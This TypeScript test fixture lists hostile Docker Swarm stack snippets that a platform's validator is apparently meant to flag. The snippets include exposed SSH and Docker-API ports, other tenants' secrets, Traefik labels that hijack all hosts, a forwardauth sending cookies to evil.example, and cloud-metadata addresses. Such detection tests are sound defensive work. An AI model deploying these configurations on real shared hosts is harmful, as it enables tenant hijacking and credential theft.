import { type Attack, type AttackFile, atTop, compose, inService } from '../attack.ts';

const env = (content: string): AttackFile => ({ path: '.env.sample', content });
const port = (feature: string) =>
  ({ code: 'published-port', feature: `port:${feature}`, rendered: true }) as const;

/** Requirement 30: ports. */
const PORTS: readonly Attack[] = [
  inService(30, 'a fixed port', 'ports:\n  - "8080:80" #!', {
    ...port('ingress:8080/tcp'),
    approvable: true,
  }),
  inService(30, 'a port of the swarm’s choice', 'ports:\n  - "80" #!', {
    ...{ ...port('ingress:any>80/tcp'), approvable: true },
  }),
  inService(
    30,
    'a port of the node',
    'ports:\n  - {target: 64738, published: 64738, protocol: udp, mode: host} #!',
    {
      ...{ ...port('host:64738/udp'), approvable: true },
    },
  ),
  inService(30, 'the port of SSH', 'ports:\n  - "22:22" #!', port('ingress:22/tcp')),
  inService(30, 'the port of SSH on one address', 'ports:\n  - "127.0.0.1:22:22" #!', port('ingress:22/tcp')),
  inService(30, 'the port of the swarm', 'ports:\n  - {target: 1, published: 2377, mode: host} #!', {
    ...port('host:2377/tcp'),
  }),
  inService(30, 'a port by a variable', 'ports:\n  - "${P:-2375}:1" #!', port('ingress:2375/tcp')),
  inService(30, 'a port as a number of base sixty', 'ports:\n  - 22:22 #!', port('ingress:22/tcp')),
  inService(30, 'all ports', 'ports:\n  - "1-65535:1-65535" #!', {
    ...{ code: 'published-port', feature: 'port:ingress:1-65535/tcp' },
  }),
];

/** Requirement 31: what belongs to others. */
const EXTERNAL: readonly Attack[] = [
  atTop(
    31,
    'the network of another run',
    'networks:\n  n: #!\n    external: true\n    name: other-00zohv67hl-net',
    {
      ...{ code: 'external-object', feature: 'external-network:other-00zohv67hl-net' },
      ...{ approvable: true, rendered: true },
    },
  ),
  atTop(31, 'the network of the host', 'networks:\n  host: #!\n    external: true', {
    ...{ code: 'external-object', feature: 'external-network:host', approvable: true, rendered: true },
  }),
  atTop(31, 'a network in the old form', 'networks:\n  n: #!\n    external: {name: monitoring}', {
    ...{ code: 'external-object', feature: 'external-network:monitoring', approvable: true, rendered: true },
  }),
  atTop(
    31,
    'a network by a variable',
    'networks:\n  n: #!\n    external: "${E:-true}"\n    name: ${N:-ingress}',
    {
      ...{ code: 'external-object', feature: 'external-network:ingress', approvable: true, rendered: true },
    },
  ),
  atTop(31, 'the volume of another run', 'volumes:\n  v: #!\n    external: true\n    name: other_data', {
    ...{ code: 'external-object', feature: 'external-volume:other_data', rendered: true },
  }),
  atTop(31, 'the config of another run', 'configs:\n  c: #!\n    external: true\n    name: seatrial.slots', {
    ...{ code: 'external-object', feature: 'external-config:seatrial.slots', rendered: true },
  }),
  atTop(31, 'the secret of another run', 'secrets:\n  s: #!\n    external: true\n    name: other_db_pw_v1', {
    ...{ code: 'external-object', feature: 'external-secret:other_db_pw_v1', rendered: true },
  }),
  atTop(31, 'a secret without a name', 'secrets:\n  ssl_key: #!\n    external: true', {
    ...{ code: 'external-object', feature: 'external-secret:ssl_key', rendered: true },
  }),
  inService(31, 'a container outside of the stack', 'external_links: [seatrial] #!', {
    ...{ code: 'power-key', feature: 'external_links', rendered: true },
  }),
];

const constraint = (text: string) => `deploy: {placement: {constraints: ["${text}"]}} #!`;

/** Requirement 32: nodes. */
const NODES: readonly Attack[] = [
  inService(32, 'a manager', constraint('node.role == manager'), {
    ...{ code: 'placement', feature: 'placement:node.role==manager', rendered: true },
  }),
  inService(32, 'a manager without blanks', constraint('node.role==manager'), {
    ...{ code: 'placement', feature: 'placement:node.role==manager', rendered: true },
  }),
  inService(32, 'no worker', constraint('node.role != worker'), {
    ...{ code: 'placement', feature: 'placement:node.role!=worker', approvable: true, rendered: true },
  }),
  inService(32, 'a node by its name', constraint('node.hostname == manager-1'), {
    ...{ code: 'placement', feature: 'placement:node.hostname==manager-1', approvable: true, rendered: true },
  }),
  inService(32, 'a node by a label', constraint('node.labels.secrets == true'), {
    ...{
      code: 'placement',
      feature: 'placement:node.labels.secrets==true',
      approvable: true,
      rendered: true,
    },
  }),
  inService(32, 'every node', 'deploy: {mode: global} #!', {
    ...{ code: 'global-mode', feature: 'mode:global', approvable: true, rendered: true },
  }),
  inService(32, 'every node once', 'deploy: {mode: global-job} #!', {
    ...{ code: 'global-mode', feature: 'mode:global-job', approvable: true, rendered: true },
  }),
];

/** Requirement 33: amounts. */
const AMOUNTS: readonly Attack[] = [
  inService(33, 'a thousand replicas', 'deploy: {replicas: 1000} #!', {
    ...{ code: 'replicas', feature: 'replicas:1000', approvable: true, rendered: true },
  }),
  inService(33, 'replicas by a variable', 'deploy: {replicas: "${R:-500}"} #!', {
    ...{ code: 'replicas', feature: 'replicas:500', approvable: true, rendered: true },
  }),
  inService(33, 'a probe every millisecond', 'healthcheck: {test: [CMD, "true"], interval: 1ms} #!', {
    ...{ code: 'probe-pace', feature: 'probe:interval:1ms', approvable: true, rendered: true },
  }),
  inService(
    33,
    'a probe every microsecond at start',
    'healthcheck: {test: [CMD, "true"], start_interval: 1us} #!',
    {
      ...{ code: 'probe-pace', feature: 'probe:start_interval:1us', approvable: true },
    },
  ),
];

const named = (kind: string, name: string) => ({
  ...{ code: 'foreign-name', feature: `name:${kind}:${name}`, rendered: true as const },
});

/** Requirement 34: names and labels. */
const NAMES: readonly Attack[] = [
  atTop(
    34,
    'a volume of another stack',
    'volumes:\n  v:\n    name: other_data #!',
    named('volume', 'other_data'),
  ),
  atTop(34, 'a network of another stack', 'networks:\n  n:\n    name: proxy #!', named('network', 'proxy')),
  atTop(
    34,
    'a config of another stack',
    'configs:\n  c:\n    name: other_c #!\n    file: f',
    {
      ...named('config', 'other_c'),
    },
    [{ path: 'f', content: '' }],
  ),
  atTop(34, 'a name by a variable', 'volumes:\n  v:\n    name: ${NAME} #!', named('volume', 'other_data'), [
    env('NAME=other_data\n'),
  ]),
  atTop(34, 'a name that only begins like the stack’s', 'volumes:\n  v:\n    name: ${STACK_NAME}2_data #!', {
    ...named('volume', '${STACK_NAME}2_data'),
  }),
  atTop(34, 'the network of the run itself', 'networks:\n  n:\n    name: ${STACK_NAME}-net #!', {
    ...{ code: 'name-collision', feature: 'name:network:${STACK_NAME}-net', rendered: true },
  }),
  atTop(34, 'two volumes of one name', 'volumes:\n  a: {}\n  b:\n    name: ${STACK_NAME}_a #!', {
    ...{ code: 'name-collision', feature: 'name:volume:${STACK_NAME}_a', rendered: true },
  }),
  atTop(34, 'the name of the stack', 'name: other #!', { code: 'power-key', feature: 'name:other' }),
  inService(
    34,
    'the label of another stack',
    'deploy:\n  labels:\n    - com.docker.stack.namespace=other #!',
    {
      ...{ code: 'reserved-label', feature: 'label:com.docker.stack.namespace', rendered: true },
    },
  ),
  inService(34, 'a label of ours', 'labels: {seatrial.run: other} #!', {
    ...{ code: 'reserved-label', feature: 'label:seatrial.run', rendered: true },
  }),
  atTop(34, 'a label of ours on a volume', 'volumes: {v: {labels: {seatrial.expires: "99999999999"}}} #!', {
    ...{ code: 'reserved-label', feature: 'label:seatrial.expires', rendered: true },
  }),
];

const label = (text: string) => `deploy:\n  labels:\n    - "${text}" #!`;
const rule = (text: string) => label(`traefik.http.routers.\${STACK_NAME}.rule=${text}`);
const route = (feature: string) => ({ code: 'router-label', feature, rendered: true }) as const;

/** Requirement 35: the router. */
const ROUTES: readonly Attack[] = [
  inService(35, 'the host of the dashboard', rule('Host(`seatrial.example.org`)'), {
    ...{ ...route('route:seatrial.example.org'), approvable: true },
  }),
  inService(35, 'another host beside its own', rule('Host(`${DOMAIN}`) || Host(`bank.example.org`)'), {
    ...{ ...route('route:bank.example.org'), approvable: true },
  }),
  inService(
    35,
    'another host by a variable',
    rule('Host(`${DOMAIN}`${EXTRA_DOMAINS})'),
    {
      ...{ ...route('route:bank.invalid'), approvable: true },
    },
    [env('EXTRA_DOMAINS=",`bank.invalid`"\n')],
  ),
  inService(35, 'a host that ends like its own', rule('Host(`evil${DOMAIN}`)'), {
    ...{ ...route('route:evil${DOMAIN}'), approvable: true },
  }),
  inService(35, 'every host', rule('PathPrefix(`/`)'), route('route:*')),
  inService(35, 'every host that has a dot', rule('HostRegexp(`.+`)'), {
    ...{ ...route('route:.+'), approvable: true },
  }),
  inService(35, 'every host but its own', rule('!Host(`${DOMAIN}`)'), route('route:*')),
  inService(35, 'every host by a header', rule('Headers(`X`, `y`)'), route('route:*')),
  inService(35, 'a priority above all', label('traefik.http.routers.x.priority=2147483647'), {
    ...{ ...route('route-priority:2147483647'), approvable: true },
  }),
  inService(35, 'every TLS connection', label('traefik.tcp.routers.x.rule=HostSNI(`*`)'), route('route:*')),
  inService(
    35,
    'every connection at the entrypoint that all share',
    'labels: ["traefik.tcp.routers.x.rule=HostSNI(`*`)", "traefik.tcp.routers.x.entrypoints=ssh,web-secure"] #!',
    route('route:*'),
  ),
  inService(
    35,
    'every connection, with entrypoints where the router does not look',
    'deploy: {labels: ["traefik.tcp.routers.x.rule=HostSNI(`*`)"]} #!\nlabels: ["traefik.tcp.routers.x.entrypoints=forge-ssh"]',
    route('route:*'),
  ),
  inService(
    35,
    'every connection at an entrypoint of its own',
    'labels: ["traefik.tcp.routers.x.rule=HostSNI(`*`)", "traefik.tcp.routers.x.entrypoints=forge-ssh"] #!',
    { ...route('route-tcp:forge-ssh'), approvable: true },
  ),
  inService(35, 'every packet of an entrypoint', label('traefik.udp.routers.x.entrypoints=dns'), {
    ...{ ...route('route-udp:dns'), approvable: true },
  }),
  inService(
    35,
    'cookies sent elsewhere',
    label('traefik.http.middlewares.x.forwardauth.address=https://evil.example/a'),
    {
      ...{ ...route('route-auth:evil.example'), approvable: true },
    },
  ),
  inService(35, 'the dashboard of the router', label('traefik.http.routers.x.service=api@internal'), {
    ...route('route-service:api@internal'),
  }),
  inService(35, 'a plug-in of the router', label('traefik.http.middlewares.x.plugin.evil.a=b'), {
    ...{ ...route('route-plugin:plugin.evil.a'), approvable: true },
  }),
  inService(
    35,
    'another server behind the router',
    label('traefik.http.services.x.loadbalancer.server.url=http://10.0.0.1'),
    {
      ...{ ...route('route-server:http://10.0.0.1'), approvable: true },
    },
  ),
  inService(
    35,
    'every host, on the labels of containers',
    'labels: ["traefik.http.routers.x.rule=PathPrefix(`/`)"] #!',
    {
      ...route('route:*'),
    },
  ),
];

/** Requirement 36: where images come from. */
const IMAGES: readonly Attack[] = [
  compose(
    36,
    'the metadata service as a registry',
    'services:\n  app:\n    image: 169.254.169.254/latest/x #!\n',
    {
      ...{ code: 'image-host', feature: 'image-host:169.254.169.254', rendered: true },
    },
  ),
];

const network = (lines: string) => `networks:\n  n:\n    ${lines} #!`;

/** Requirement 40: networks. */
const NETWORKS: readonly Attack[] = [
  atTop(40, 'a network of the host', network('driver: host'), {
    ...{ code: 'network-driver', feature: 'network-driver:n:host', rendered: true },
  }),
  atTop(40, 'a network on the wire', network('driver: macvlan'), {
    ...{ code: 'network-driver', feature: 'network-driver:n:macvlan', rendered: true },
  }),
  atTop(40, 'a bridge', network('driver: bridge'), {
    ...{ code: 'network-driver', feature: 'network-driver:n:bridge', rendered: true },
  }),
  atTop(40, 'an interface of the host', network('driver_opts: {parent: eth0}'), {
    ...{ code: 'network-options', feature: 'network-option:n:parent', approvable: true, rendered: true },
  }),
  atTop(40, 'the addresses of others', network('ipam: {config: [{subnet: 10.0.0.0/8}]}'), {
    ...{ code: 'network-subnet', feature: 'subnet:n:10.0.0.0/8', approvable: true, rendered: true },
  }),
];

const address = (feature: string) => ({
  ...{ code: 'node-address', feature, approvable: true as const, rendered: true as const },
});

/** Requirement 41: the node by another name. */
const NODE: readonly Attack[] = [
  inService(41, 'the node as a host', 'extra_hosts:\n  - "host.docker.internal:host-gateway" #!', {
    ...address('extra_hosts:host-gateway'),
  }),
  inService(41, 'the node’s link as a host', 'extra_hosts: ["m=fe80::1"] #!', {
    ...address('extra_hosts:fe80::1'),
  }),
  inService(41, 'the metadata service of IPv6 as a host', 'extra_hosts: ["m=fd00:ec2::254"] #!', {
    ...address('extra_hosts:fd00:ec2::254'),
  }),
  inService(41, 'the metadata service as IPv6 writes it', 'extra_hosts: ["m=::ffff:169.254.169.254"] #!', {
    ...address('extra_hosts:::ffff:169.254.169.254'),
  }),
  inService(41, 'the metadata service as a host', 'extra_hosts: {meta: 169.254.169.254} #!', {
    ...address('extra_hosts:169.254.169.254'),
  }),
  inService(
    41,
    'the metadata service as a host by a variable',
    'extra_hosts: ["m:${M:-169.254.169.254}"] #!',
    {
      ...address('extra_hosts:169.254.169.254'),
    },
  ),
  inService(
    41,
    'the metadata service as name server',
    'dns: 169.254.169.253 #!',
    address('dns:169.254.169.253'),
  ),
];

export const SWARM: readonly Attack[] = [
  ...[PORTS, EXTERNAL, NODES, AMOUNTS, NAMES, ROUTES, IMAGES, NETWORKS, NODE].flat(),
];
